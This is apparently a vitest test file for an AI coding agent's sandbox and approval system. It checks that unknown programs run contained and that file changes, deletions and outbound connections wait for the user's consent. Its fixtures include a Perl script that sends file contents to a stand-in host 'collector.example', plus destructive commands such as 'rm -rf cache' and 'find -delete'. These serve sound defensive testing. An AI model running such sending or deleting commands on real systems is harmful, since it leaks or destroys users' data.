/** A program that nobody knows runs contained before anybody agrees, and what it changed is decided on afterwards. */

import { execFileSync } from "node:child_process";
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  statSync,
  truncateSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, expect, onTestFinished, test } from "vitest";
import { awaitsPerson } from "../src/protocol/session-state.ts";
import { scriptedModel } from "../src/providers/scripted-model.ts";
import { findSandbox } from "../src/runtime/containing.ts";
import { testSession, type TestSessionOptions } from "../src/testing/session.ts";

let home: string;

beforeAll(() => {
  home = mkdtempSync(join(tmpdir(), "toolwright-frob-"));
  mkdirSync(join(home, "bin"));
  const program = join(home, "bin", "frobnicate");
  writeFileSync(
    program,
    [
      "#!/bin/sh",
      'for file; do case "$file" in',
      '  big) head -c 70000000 /dev/zero >"$file" ;;',
      '  cache/bare) git init -q --bare "$file" ;;',
      '  cache/tree) git init -q "$file" ;;',
      "  target) mkdir target; for at in $(seq 250); do : >target/$at; done; git init -q --bare target/x ;;",
      '  *) echo "formatted $file" >"$file" ;;',
      "esac; done",
      'echo "frobbed $# files"',
      "",
    ].join("\n"),
  );
  chmodSync(program, 0o755);
  const sender = join(home, "bin", "frobsend");
  writeFileSync(
    sender,
    [
      "#!/usr/bin/perl",
      "use IO::Socket::INET;",
      'my $to = IO::Socket::INET->new(PeerAddr => "collector.example", PeerPort => 443) or die "cannot: $!\\n";',
      "print $to join '', <>;",
      "",
    ].join("\n"),
  );
  chmodSync(sender, 0o755);
  process.env.FROB_HOME = home;
  process.env.PATH = `${join(home, "bin")}:${process.env.PATH}`;
});
afterAll(() => rmSync(home, { recursive: true, force: true }));

const files = { "a.txt": "a\n", "b.txt": "b\n", "c.txt": "c\n", ".gitignore": "cache/\n" };

async function opened(command: string, options: Partial<TestSessionOptions> & { runs?: number } = {}) {
  const times = Array.from({ length: options.runs ?? 1 }, () => [{ call: "run_command", with: { command } }]);
  const model = scriptedModel([...times, [{ say: "Done." }]]);
  const made = await testSession(model, { files, sandbox: findSandbox, ...options });
  onTestFinished(() => made.workspace.remove());
  const { root } = made.workspace;
  execFileSync("git", ["init", "--quiet"], { cwd: root });
  const read = (path: string): string => readFileSync(join(root, path), "utf8");
  const questions = () => made.facts().flatMap((fact) => (fact.type === "approval-asked" ? [fact] : []));
  const result = () => made.facts().find(({ type }) => type === "result");
  return { ...made, root, read, questions, result };
}

const all = "frobnicate a.txt b.txt c.txt";

test("an unknown program that formats three files asks nothing before, shows one card after, and undo is exact", async () => {
  const { ask, session, read, questions, result } = await opened(all);
  await ask("Format.", "allow");
  expect(questions()).toHaveLength(1);
  expect(questions()[0]).toMatchObject({
    title: `Keep the changes of: Run ${all}`,
    preview: expect.stringContaining("+formatted b.txt"),
  });
  expect(questions()[0]?.changes?.map(({ path }) => path)).toEqual(["a.txt", "b.txt", "c.txt"]);
  expect(result()).toMatchObject({ outcome: "ok" });
  expect(JSON.stringify(result())).toContain("frobbed 3 files");
  expect(["a.txt", "b.txt", "c.txt"].map(read).join("")).toBe(
    "formatted a.txt\nformatted b.txt\nformatted c.txt\n",
  );
  expect(session.log.state.turns.at(-1)?.changes.map(({ path }) => path)).toEqual([
    "a.txt",
    "b.txt",
    "c.txt",
  ]);
});

test("refused changes never reach the workspace, and the model is told", async () => {
  const { ask, read, result } = await opened(all);
  await ask("Format.", "deny");
  expect(result()).toMatchObject({ outcome: "denied" });
  expect(JSON.stringify(result())).toMatch(/frobbed 3 files.*The user did not keep what it changed/u);
  expect(["a.txt", "b.txt", "c.txt"].map(read).join("")).toBe("a\nb\nc\n");
});

test("nothing is asked about a command that changes nothing, or only what git ignores, which is kept", async () => {
  const { ask, questions, read } = await opened("mkdir -p cache && frobnicate && frobnicate cache/x");
  await ask("Format.");
  expect(questions()).toEqual([]);
  expect(read("cache/x")).toBe("formatted cache/x\n");
});

test.each(["accept-edits", "auto"] as const)("the mode %s keeps the changes at once", async (mode) => {
  const { ask, questions, read } = await opened(all, { mode });
  await ask("Format.");
  expect(questions()).toEqual([]);
  expect(read("a.txt")).toBe("formatted a.txt\n");
});

test.each(["plan", "deny"] as const)("the mode %s drops the changes and tells the model", async (mode) => {
  const { ask, questions, read, result } = await opened(all, { mode });
  await ask("Format.");
  expect(questions()).toEqual([]);
  expect(read("a.txt")).toBe("a\n");
  expect(JSON.stringify(result())).toMatch(
    /frobbed 3 files.*What it changed was not kept \(a.txt, b.txt, c.txt\)/u,
  );
});

test("without anybody to ask, the changes are dropped and the model is told", async () => {
  const { ask, read, result } = await opened(all, { interactive: false });
  await ask("Format.");
  expect(read("a.txt")).toBe("a\n");
  expect(JSON.stringify(result())).toContain("there is nobody to ask");
});

test("a turn that waits for the answer goes on in another process, and takes no change of a file that differs by then", async () => {
  const first = await opened(all);
  const { session, workspace, store, root } = first;
  await session.command({ type: "send", content: [{ type: "text", text: "Format." }] });
  await session.log.until(({ type }) => type === "approval-asked", AbortSignal.timeout(60_000));
  expect(awaitsPerson(session.log.state)).toBe(true);
  await expect.poll(() => session.isWorking).toBe(false);
  await session.close();
  writeFileSync(join(root, "b.txt"), "mine\n");
  const again = await testSession(scriptedModel([[{ say: "Done." }]]), {
    workspace,
    store,
    resume: session.log.state.session,
    sandbox: findSandbox,
  });
  const { callId = "" } = first.questions()[0] ?? {};
  await again.session.command({
    type: "answer-approval",
    callId,
    answer: "allow",
    scope: "once",
    by: "test",
  });
  await again.session.idle();
  const result = again.facts().find(({ type }) => type === "result");
  expect(result).toMatchObject({ outcome: "failed" });
  expect(JSON.stringify(result)).toContain("b.txt has changed since this was shown");
  expect(readFileSync(join(root, "b.txt"), "utf8")).toBe("mine\n");
  expect(existsSync(join(root, "a.txt"))).toBe(true);
});

test("more than can be held until somebody agrees is dropped, and the next run asks first, still contained", async () => {
  const { ask, facts, questions, read, root } = await opened("frobnicate a.txt big", { runs: 2 });
  await ask("Grow.", "allow");
  const [first, second] = facts().filter(({ type }) => type === "result");
  expect(JSON.stringify(first)).toMatch(/What it changed was not kept \(a.txt, big\).*Run it once more/u);
  expect(questions().map(({ because, sandbox }) => [because, sandbox?.profile])).toEqual([
    [expect.stringMatching(/tried contained: it was refused holding what it changed \(big/u), "build"],
  ]);
  expect(second).toMatchObject({ outcome: "ok" });
  expect([read("a.txt"), statSync(join(root, "big")).size]).toEqual(["formatted a.txt\n", 70_000_000]);
});

test.each(["ask", "accept-edits", "auto"] as const)(
  "in the mode %s what would be lost for good is not lost without a question, even if git ignores it",
  async (mode) => {
    const { ask, facts, questions, root } = await opened("rm -rf cache", {
      files: { ...files, "cache/small": "s" },
      mode,
      runs: 2,
    });
    const big = join(root, "cache/data.db");
    writeFileSync(big, "");
    truncateSync(big, 70_000_000);
    await ask("Clean.", "deny");
    const [first, second] = facts().filter(({ type }) => type === "result");
    expect(JSON.stringify(first)).toMatch(/What it changed was not kept \(cache\/data.db.*Run it once more/u);
    expect(second).toMatchObject({ outcome: "denied" });
    expect(questions()).toHaveLength(1);
    expect(statSync(big).size).toBe(70_000_000);
  },
);

test.each(["truncate -s 0 data.db", "echo > data.db", "rm -f data.db; echo >made", "mv data.db other.db"])(
  "what undo could not bring back is lost only after a question, however harmless the words are: %s",
  async (command) => {
    const { ask, facts, questions, root } = await opened(command, { mode: "accept-edits", runs: 2 });
    const big = join(root, "data.db");
    writeFileSync(big, "");
    truncateSync(big, 70_000_000);
    await ask("Clean.", "deny");
    const [first, second] = facts().filter(({ type }) => type === "result");
    expect(first).toMatchObject({ outcome: "failed" });
    expect(JSON.stringify(first)).toMatch(/not kept \(data.db\): undo could not bring back/u);
    expect(second).toMatchObject({ outcome: "denied" });
    expect(questions()).toHaveLength(1);
    expect(statSync(big).size).toBe(70_000_000);
  },
);

test("more files than undo covers are changed only after a question, also by a script with no word of them", async () => {
  const many = Object.fromEntries(Array.from({ length: 5_010 }, (_, at) => [`d/${at}`, "line\n"]));
  const { ask, facts, read } = await opened("sed -i s/line/LINE/ d/*", {
    mode: "auto",
    files: { ...files, ...many },
  });
  await ask("Format.", "deny");
  expect(facts().find(({ type }) => type === "result")).toMatchObject({ outcome: "failed" });
  expect([read("d/0"), read("d/5009")]).toEqual(["line\n", "line\n"]);
});

test("an unknown program that sends a file away is refused by the kernel, and may reach that host only after a question that tells it", async () => {
  const command = "frobsend a.txt";
  const call = (more: object) => [{ call: "run_command", with: { command, ...more } }];
  const model = scriptedModel([
    call({}),
    call({ outside: ["collector.example:443"] }),
    call({ outside: ["nonsense/place"] }),
    [{ say: "Done." }],
  ]);
  const { ask, facts, workspace } = await testSession(model, { files, sandbox: findSandbox });
  onTestFinished(() => workspace.remove());
  await ask("Send it.", "deny");
  const [first, second, third] = facts().filter(({ type }) => type === "result");
  expect(first).toMatchObject({
    outcome: "failed",
    refused: [{ wanted: "host", host: "collector.example", port: 443 }],
  });
  expect(JSON.stringify(first)).toContain(
    'The sandbox refused it a connection to collector.example:443. If it needs that, run the same command once more with outside: [\\"collector.example:443\\"]; the user is asked.',
  );
  const asked = facts().filter(({ type }) => type === "approval-asked");
  expect(asked).toMatchObject([
    {
      because:
        "it is given collector.example:443 (tried contained: it was refused a connection to collector.example:443, and changed nothing)",
      sandbox: { profile: "install", outside: ["collector.example:443"] },
    },
  ]);
  expect(second).toMatchObject({ outcome: "denied" });
  expect(JSON.stringify(third)).toContain("is none of: a host");
});

test("what git ignores is kept without a question only if it needs none in any mode, and never in plan mode", async () => {
  const ignoring = { files: { ...files, ".gitignore": "cache/\nmade/\n" } };
  const asked = await opened("mkdir -p cache made && frobnicate cache/x made/package.json", ignoring);
  await asked.ask("Format.", "deny");
  expect(asked.questions().map(({ changes = [] }) => changes.map(({ path }) => path))).toEqual([
    ["made/package.json"],
  ]);
  expect([asked.read("cache/x"), existsSync(join(asked.root, "made/package.json"))]).toEqual([
    "formatted cache/x\n",
    false,
  ]);
  const planned = await opened("mkdir -p cache && frobnicate cache/x", { ...ignoring, mode: "plan" });
  await planned.ask("Format.");
  expect(existsSync(join(planned.root, "cache"))).toBe(false);
});

test("what is removed is asked about together, also what git ignores, and a no brings all of it back", async () => {
  const ignoring = { files: { ...files, ".gitignore": "*.local\n", "a.local": "mine\n" } };
  const { ask, questions, read, result } = await opened("find . -name 'a.*' -delete", ignoring);
  await ask("Clean.", "deny");
  expect(questions().map(({ changes = [] }) => changes.map(({ path }) => path).sort())).toEqual([
    ["a.local", "a.txt"],
  ]);
  expect([read("a.local"), read("a.txt")]).toEqual(["mine\n", files["a.txt"]]);
  expect(result()).toMatchObject({ outcome: "denied" });
});

test("a repository is kept without a question nowhere, even if git ignores it or much else is beside it", async () => {
  const kept = { ...files, ".gitignore": "cache/\ntarget/\n" };
  for (const [made, place] of [
    ["cache/bare", "cache/bare"],
    ["cache/tree", "cache/tree/.git"],
    ["target", "target/x"],
  ] as const) {
    const { ask, root, result, questions } = await opened(`mkdir -p cache; frobnicate ${made}`, {
      files: kept,
    });
    await ask("Format.", "allow");
    expect(questions()).toEqual([]);
    expect(existsSync(join(root, place, "HEAD"))).toBe(false);
    expect(JSON.stringify(result())).toMatch(new RegExp(`not kept \\([^)]*${place}`, "u"));
  }
});

test("a file that would grow beyond undo is left as it is until somebody was asked, in any mode", async () => {
  for (const command of ["head -c 70000000 /dev/zero >> a.txt", "frobnicate big"]) {
    const { ask, facts, questions, root } = await opened(command, {
      mode: "auto",
      runs: 2,
      files: { ...files, big: "small\n" },
    });
    await ask("Grow.", "deny");
    const [first, second] = facts().filter(({ type }) => type === "result");
    expect(JSON.stringify(first)).toMatch(/not kept \((?:a.txt|big)\): undo could not bring back/u);
    expect(questions()).toHaveLength(1);
    expect(second).toMatchObject({ outcome: "denied" });
    expect([statSync(join(root, "a.txt")).size, statSync(join(root, "big")).size]).toEqual([2, 6]);
  }
});

test("installed programs that git ignores are changed only with a yes, and what tools keep beside them without", async () => {
  const asked = await opened("frobnicate $(cat list)", {
    files: {
      ...files,
      ".gitignore": "node_modules/\n.venv/\n",
      list: "node_modules/tool/run.js node_modules/.cache/x .venv/bin/python",
      "node_modules/tool/run.js": "good\n",
      "node_modules/.cache/x": "",
      ".venv/bin/python": "good\n",
    },
  });
  await asked.ask("Format.", "deny");
  expect(asked.questions().map(({ changes = [] }) => changes.map(({ path }) => path).sort())).toEqual([
    [".venv/bin/python", "node_modules/tool/run.js"],
  ]);
  expect(["node_modules/tool/run.js", ".venv/bin/python", "node_modules/.cache/x"].map(asked.read)).toEqual([
    "good\n",
    "good\n",
    "formatted node_modules/.cache/x\n",
  ]);
});

test("a file that says what git ignores is no ignored change, and a read-only file is replaced only with a yes", async () => {
  const ruled = await opened("frobnicate .gitignore cache/.gitignore", {
    files: { ...files, ".gitignore": "cache/\n.gitignore\n", "cache/x": "" },
  });
  await ruled.ask("Format.", "deny");
  expect(ruled.questions().map(({ changes = [] }) => changes.map(({ path }) => path))).toEqual([
    [".gitignore"],
  ]);
  const shut = await opened("rm -f a.txt; frobnicate a.txt", { mode: "accept-edits" });
  chmodSync(join(shut.root, "a.txt"), 0o444);
  await shut.ask("Format.", "deny");
  expect(shut.questions().map(({ because }) => because)).toEqual([expect.stringContaining("read-only")]);
  expect(shut.read("a.txt")).toBe("a\n");
});
